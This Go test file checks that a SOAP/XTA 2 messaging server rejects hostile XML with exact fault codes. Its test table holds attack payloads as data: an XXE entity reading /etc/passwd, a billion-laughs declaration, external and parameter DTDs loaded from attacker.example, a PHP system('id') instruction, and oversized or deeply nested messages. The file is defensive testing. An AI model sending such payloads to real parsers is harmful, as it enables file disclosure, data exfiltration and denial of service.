package xta_test

import (
	"html"
	"regexp"
	"strings"
	"testing"

	"github.com/dxhub/dxhub/xta"
)

var (
	faultValueRE = regexp.MustCompile(`<s:Code><s:Value>([^<]*)</s:Value>(?:<s:Subcode><s:Value>([^<]*)</s:Value>)?`)
	faultTextRE  = regexp.MustCompile(`<s:Text xml:lang="[^"]*">([^<]*)</s:Text>`)
	xtaCodeRE    = regexp.MustCompile(`<code>([0-9]+)</code>`)
)

// TestSecurityXTAServer sends each attack to the hub's XTA 2 server (the
// SOAP entry point of Fachverfahren) and checks the HTTP status, the SOAP
// fault code, subcode and reason exactly.
func TestSecurityXTAServer(t *testing.T) {
	h := newHarness(t, func(c *xta.Config) { c.MaxControlBytes = 256 << 10; c.MaxRequestBytes = 512 << 10 })
	// xta.server.maxDepth/maxElements/maxAttributes, smaller than the defaults.
	tight := newHarness(t, func(c *xta.Config) { c.Parse = xta.Limits{MaxDepth: 12, MaxElements: 40, MaxAttrs: 4} })
	const soapCT = "application/soap+xml; charset=utf-8"
	list := `<osci:MsgBoxStatusListRequest maxListItems="5" ListForm="MessageMetaData"/>`
	ok := request(xta.ActionGetStatusList, readerKey, list)
	body := func(prolog string) string { return prolog + ok[len(`<?xml version="1.0" encoding="UTF-8"?>`):] }
	deep := strings.Replace(ok, list, strings.Repeat("<x>", 70)+strings.Repeat("</x>", 70), 1)
	tests := []struct {
		name, path, body string
		status           int
		code, subcode    string
		xtaCode          string // the XTA error code in the fault detail, "" for none
		reason           string
	}{
		{"XXE external entity", xta.PathMsgBox, body(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: DOCTYPE and other declarations are not allowed"},
		{"billion laughs", xta.PathMsgBox, body(`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>`), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: DOCTYPE and other declarations are not allowed"},
		{"external DTD", xta.PathMsgBox, body(`<?xml version="1.0"?><!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/evil.dtd">`), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: DOCTYPE and other declarations are not allowed"},
		{"parameter entities", xta.PathSend, body(`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>`), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: DOCTYPE and other declarations are not allowed"},
		{"entity reference without declaration", xta.PathMsgBox, strings.Replace(ok, "urn:uuid:req-1", "&xxe;", 1), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: XML syntax error on line 3: invalid character entity &xxe;"},
		{"processing instruction", xta.PathMsgBox, strings.Replace(ok, "<soap:Header>", `<?php system("id"); ?><soap:Header>`, 1), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: processing instruction <?php?> not allowed"},
		{"non-UTF-8 encoding", xta.PathMsgBox, body(`<?xml version="1.0" encoding="ISO-8859-1"?>`), 400,
			"s:Sender", "", "", `xta: malformed SOAP message: xml: opening charset "ISO-8859-1": xta: malformed SOAP message: XML encoding "ISO-8859-1" is not supported, SOAP 1.2 messages must be UTF-8`},
		{"nesting beyond 64", xta.PathMsgBox, deep, 400, "s:Sender", "", "", "xta: malformed SOAP message: nesting deeper than 64"},
		{"too many attributes", xta.PathMsgBox, strings.Replace(ok, list, "<x "+attrs(65)+"/>", 1), 400, "s:Sender", "", "", "xta: malformed SOAP message: element x has more than 64 attributes"},
		{"control request beyond its size limit", xta.PathMsgBox, strings.Replace(ok, list, "<x>"+strings.Repeat("A", 300<<10)+"</x>", 1), 400,
			"s:Sender", "", "9023", "request exceeds the size limit"},
		{"sendMessage beyond xta.server.maxRequestBytes", xta.PathSend, strings.Replace(request(xta.ActionSendMessage, hubKey, "<x/>"), "<soap:Header>", "<soap:Header><x>"+strings.Repeat("A", 600<<10)+"</x>", 1), 400,
			"s:Sender", "", "9023", "request exceeds the size limit"},
		{"nesting beyond xta.server.maxDepth", "tight" + xta.PathMsgBox, strings.Replace(ok, list, strings.Repeat("<x>", 14)+strings.Repeat("</x>", 14), 1), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: nesting deeper than 12"},
		{"elements beyond xta.server.maxElements", "tight" + xta.PathMsgBox, strings.Replace(ok, list, strings.Repeat("<x/>", 40), 1), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: more than 40 elements"},
		{"attributes beyond xta.server.maxAttributes", "tight" + xta.PathMsgBox, strings.Replace(ok, list, "<x "+attrs(5)+"/>", 1), 400,
			"s:Sender", "", "", "xta: malformed SOAP message: element x has more than 4 attributes"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			url := h.url + tc.path
			if p, ok := strings.CutPrefix(tc.path, "tight"); ok {
				url = tight.url + p
			}
			resp := post(t, url, soapCT, "", tc.body)
			code, sub, xc, reason := "", "", "", ""
			if m := xtaCodeRE.FindStringSubmatch(resp.body); m != nil {
				xc = m[1]
			}
			if m := faultValueRE.FindStringSubmatch(resp.body); m != nil {
				code, sub = m[1], m[2]
			}
			if m := faultTextRE.FindStringSubmatch(resp.body); m != nil {
				reason = html.UnescapeString(m[1])
			}
			if resp.status != tc.status || code != tc.code || sub != tc.subcode || xc != tc.xtaCode || reason != tc.reason {
				t.Errorf("got %d %q %q %q %q\nwant %d %q %q %q %q\n%s", resp.status, code, sub, xc, reason, tc.status, tc.code, tc.subcode, tc.xtaCode, tc.reason, resp.body)
			}
		})
	}
}

func attrs(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("a")
		b.WriteString(strings.Repeat("b", i%26))
		b.WriteString(string(rune('a'+i%26)) + string(rune('a'+i/26)) + `="1" `)
	}
	return b.String()
}
